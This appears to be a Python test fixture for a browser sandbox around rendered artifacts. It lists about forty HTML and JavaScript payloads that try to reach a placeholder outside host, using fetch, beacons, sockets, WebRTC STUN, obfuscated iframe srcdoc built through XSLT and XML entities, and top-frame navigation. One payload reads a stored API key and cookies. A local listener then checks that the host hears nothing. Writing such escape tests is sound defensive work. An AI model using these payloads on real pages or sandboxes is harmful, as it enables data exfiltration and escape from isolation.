"""Ways out of an artifact, and a host outside that must hear nothing of them. `$` stands for the host's address."""

from __future__ import annotations

import socket
import threading
from contextlib import ExitStack

WEBRTC = (
    "const p = new RTCPeerConnection({iceServers: [{urls: '$'.replace('http://', 'stun:')}]});"
    " p.createDataChannel('x');"
    " p.createOffer().then(offer => p.setLocalDescription(offer))"
)
IN_QUOTES = WEBRTC.replace("'", "&apos;")
IN_TICKS = WEBRTC.replace("'", "`")
IN_ENTITY = f"&#38;lt;script&#38;gt;{IN_TICKS.replace('=>', '=&#38;gt;')}&#38;lt;/script&#38;gt;"
ESCAPES = {
    "fetch": "<script>fetch('$/x').catch(() => 0)</script>",
    "image": "<img src='$/x'><picture><source srcset='$/x'><img></picture>",
    "location": "<script>location = '$/x'</script>",
    "refresh": "<meta http-equiv=refresh content='0;url=$/x'>",
    "link": "<a id=a href='$/x'>x</a><script>a.click()</script>",
    "link to a new tab": "<a id=a target=_blank href='$/x'>x</a><script>a.click()</script>",
    "link to the top": "<a id=a target=_top href='$/x'>x</a><script>a.click()</script>",
    "ping": "<a id=a href='#' ping='$/x'>x</a><script>a.click()</script>",
    "download": "<a id=a download href='$/x'>x</a><script>a.click()</script>",
    "window": "<script>window.open('$/x')</script>",
    "top": "<script>try { top.location = '$/x' } catch {}</script>",
    "parent": "<script>try { parent.document.title = 'owned' } catch {}</script>",
    "parent's place": "<script>try { parent.location = '$/x' } catch {}</script>",
    "message": "<script>parent.postMessage({owned: 1}, '*'); top.postMessage('owned', '*')</script>",
    "form": "<form id=f action='$/x'><input name=a></form><script>f.submit()</script>",
    "beacon": "<script>navigator.sendBeacon('$/x', 'x')</script>",
    "socket": "<script>new WebSocket('$/x'.replace('http', 'ws'))</script>",
    "events": "<script>new EventSource('$/x')</script>",
    "prefetch": "<link rel=prefetch href='$/x'><link rel=preload as=image href='$/x'>",
    "module": "<link rel=modulepreload href='$/x'>",
    "preconnect": "<link rel=preconnect href='$'><link rel=dns-prefetch href='$'>",
    "speculation": '<script type=speculationrules>{"prefetch": [{"urls": ["$/x"], "eagerness": "immediate"}]}</script>',
    "script": "<script src='$/x'></script><script>import('$/x').catch(() => 0)</script>",
    "worker": "<script>try { new Worker(URL.createObjectURL(new Blob([`fetch('$/x')`]))) } catch {}</script>",
    "frame": "<iframe src='$/x'></iframe><object data='$/x'></object><embed src='$/x'>",
    "frame of its own": "<iframe srcdoc=\"<script>fetch('$/x'); location = '$/x'</script>\"></iframe>",
    "style": "<style>@import '$/x'; body { background: url($/x) }</style>",
    "font": "<style>@font-face { font-family: f; src: url($/x) } p { font-family: f }</style><p>x",
    "media": "<video src='$/x' autoplay></video><audio src='$/x' autoplay></audio>",
    "svg": "<svg><image href='$/x'/><use href='$/x#a'/></svg>",
    "webrtc": f"<script>{WEBRTC}</script>",
    "webrtc in a frame": f'<iframe srcdoc="<script>{WEBRTC}</script>"></iframe>',
    "document": "<script>setTimeout(() => { document.open(); document.write('<img src=$/x>') })</script>",
    "webrtc in a frame made later": f"""<script>
        const frame = document.createElement('iframe');
        frame.setAttribute('srcDoc', `<script>{WEBRTC}<\\/script>`);
        document.body.append(frame);
        document.body.insertAdjacentHTML('beforeend', '<iframe SRCDOC="<script>{IN_QUOTES}<\\/script>">');
        </script>""",
    "webrtc in a frame made in pieces": f"""<script>
        document.write('<iframe src');
        document.write('doc="<script>{IN_QUOTES}<\\/script>"></iframe>');
        </script>""",
    "webrtc in a frame whose attribute is spelled in pieces": f"""<script>
        const frame = document.createElement('iframe');
        frame['src' + 'doc'] = '<script>{IN_TICKS}<' + '/script>';
        document.body.append(frame);
        frame.setAttribute('src' + 'doc', '<script>{IN_TICKS}<' + '/script>');
        </script>""",
    "webrtc in a frame made of an entity": f"""<script>
        const text = '<!DOCTYPE x [<!ENTITY a "&#60;iframe src&#100;oc=\\'{IN_ENTITY}\\'/&#62;">]>'
            + '<x xmlns="http://www.w3.org/1999/xhtml">&a;</x>';
        const made = new DOMParser().parseFromString(text, 'application/xhtml+xml');
        document.body.append(...made.documentElement.children);
        </script>""",
    "webrtc in a frame made by XSLT": f"""<script>
        const parsed = (text) => new DOMParser().parseFromString(text, 'text/xml');
        const processor = new XSLTProcessor();
        processor.importStylesheet(parsed(`<xsl:stylesheet version="1.0"
            xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:output method="html"/>
            <xsl:template match="/"><iframe><xsl:attribute name="{{concat('src', 'doc')}}">
            &lt;script>{IN_QUOTES}&lt;/script></xsl:attribute></iframe></xsl:template></xsl:stylesheet>`));
        document.body.append(processor.transformToFragment(parsed('<a/>'), document));
        </script>""",
    "storage": "<script>try { localStorage.getItem('api-key') } catch {} try { document.cookie } catch {}</script>",
    "own server": "<script>location = new URL('/v1/models', document.baseURI)</script>",
    "own server's answer": "<script>fetch(new URL('/v1/models', document.baseURI)).catch(() => 0)</script>",
}


NAVIGATIONS = {name: ESCAPES.pop(name) for name in ("location", "refresh", "link", "download", "frame")}
"""Chromium 150 looks up the host and opens a connection before it asks the policy whether a frame may go there."""
SILENCE = b"a connection"
"""What is heard where one is opened and nothing is sent."""


class Listener:
    """A host that must hear nothing: TCP and UDP on one port."""

    def __init__(self) -> None:
        self.heard: list[bytes] = []
        self._rung = threading.Event()
        self._stack = ExitStack()
        self._tcp = self._stack.enter_context(socket.create_server(("127.0.0.1", 0)))
        self.port = self._tcp.getsockname()[1]
        self._udp = self._stack.enter_context(socket.socket(socket.AF_INET, socket.SOCK_DGRAM))
        self._udp.bind(("127.0.0.1", self.port))
        for listen in (self._accept, self._receive):
            threading.Thread(target=listen, daemon=True).start()

    def hear(self) -> bytes:
        """Wait for the first that comes."""
        assert self._rung.wait(timeout=20), "nothing came"
        return self.heard[0]

    def close(self) -> None:
        self._stack.close()

    def _accept(self) -> None:
        while True:
            try:
                connection, _ = self._tcp.accept()
            except OSError:
                return
            with connection:
                connection.settimeout(1)
                try:
                    self._note(connection.recv(100))
                except OSError:
                    self._note(SILENCE)

    def _receive(self) -> None:
        while True:
            try:
                self._note(self._udp.recv(100))
            except OSError:
                return

    def _note(self, data: bytes) -> None:
        self.heard.append(data)
        self._rung.set()
